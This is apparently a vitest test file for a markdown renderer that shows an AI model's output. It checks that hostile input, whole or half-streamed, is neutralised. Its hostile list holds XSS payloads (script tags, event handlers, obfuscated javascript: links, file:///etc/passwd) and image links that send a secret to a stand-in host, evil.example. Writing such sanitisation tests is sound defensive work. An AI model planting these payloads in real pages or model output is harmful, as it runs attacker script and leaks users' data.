import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import ReactMarkdown from 'react-markdown';
import remend from 'remend';
import { describe, expect, test } from 'vitest';
import { safeAddress } from '#renderer/ui/markdown/link-safety.ts';
import { rehypePlugins, remarkPlugins } from '#renderer/ui/markdown/plugins.ts';
import { showControls } from '#renderer/ui/markdown/visible-controls.ts';

const hostile = [
  '<script>window.pwned = 1</script>',
  '<img src=x onerror="window.pwned = 1">',
  '<svg onload="window.pwned = 1"><a xlink:href="javascript:1">x</a></svg>',
  '<iframe src="https://evil.example"></iframe>',
  '<style>body { background: url(https://evil.example/x) }</style>',
  '<a href="javascript:window.pwned = 1">x</a>',
  '![secret](https://evil.example/?q=secret)',
  '![secret][1]\n\n[1]: https://evil.example/?q=secret',
  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
  '[![x](https://evil.example/a.png)](https://evil.example)',
  '[x](javascript:window.pwned=1)',
  '[x](JaVaScRiPt:window.pwned=1)',
  '[x](java&#x09;script:window.pwned=1)',
  '[x](&#106;avascript:window.pwned=1)',
  '[x](vbscript:x)',
  '[x](data:text/html,<script>1</script>)',
  '[x](file:///etc/passwd)',
  '[x](//evil.example)',
  '<javascript:window.pwned=1>',
  '[x]: javascript:window.pwned=1\n\n[x]',
  'text[^1]\n\n[^1]: ![x](https://evil.example/b.png)',
  '| a |\n|---|\n| <img src=x onerror=1> |',
  '<form action="https://evil.example"><input name=q><button>go</button></form>',
  '<object data="x"></object><embed src="x"><base href="https://evil.example">',
  '<details open ontoggle="window.pwned = 1">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
];

const render = (text: string) =>
  renderToStaticMarkup(
    createElement(ReactMarkdown, { remarkPlugins, rehypePlugins, skipHtml: true, children: text }),
  );

const forbiddenTags = /<(?:script|img|svg|iframe|style|form|button|object|embed|base|meta|link)\b/i;
const forbiddenAttributes = /<[^>]*\s(?:on\w+|src|srcset|style|action)=/i;
const addresses = /href="([^"]*)"/g;

describe('text of a model', () => {
  test.each(hostile)('%s loads nothing and runs nothing, whole or half streamed', (text) => {
    for (let length = 1; length <= text.length; length += 1) {
      const markup = render(length < text.length ? remend(text.slice(0, length)) : text);
      expect(markup).not.toMatch(forbiddenTags);
      expect(markup).not.toMatch(forbiddenAttributes);
      for (const [, address] of markup.matchAll(addresses)) {
        expect(address).toMatch(/^(?:https?:|mailto:|#|\/(?!\/))/);
      }
    }
  });

  test('an ordinary link stays a link, and an image says where it lies', () => {
    expect(render('[docs](https://example.org/a)')).toContain('href="https://example.org/a"');
    const image = render('![a cat](https://example.org/cat.png)');
    expect(image).toContain('data-image-address="https://example.org/cat.png"');
    expect(image).toContain('data-description="a cat"');
  });
});

describe('addresses', () => {
  test.each([
    ['https://example.org/a', 'https://example.org/a'],
    ['mailto:a@example.org', 'mailto:a@example.org'],
    ['javascript:alert(1)', null],
    ['java\tscript:alert(1)', null],
    ['data:text/html,x', null],
    ['//evil.example', null],
    ['/run/1', null],
    ['#user-content-fn-1', null],
    [undefined, null],
  ])('%s opens %s', (href, address) => {
    expect(safeAddress(href)).toBe(address);
  });
});

test('characters that reorder code are shown', () => {
  expect(showControls('if (a\u202E) {')).toBe('if (a⟨U+202E⟩) {');
});
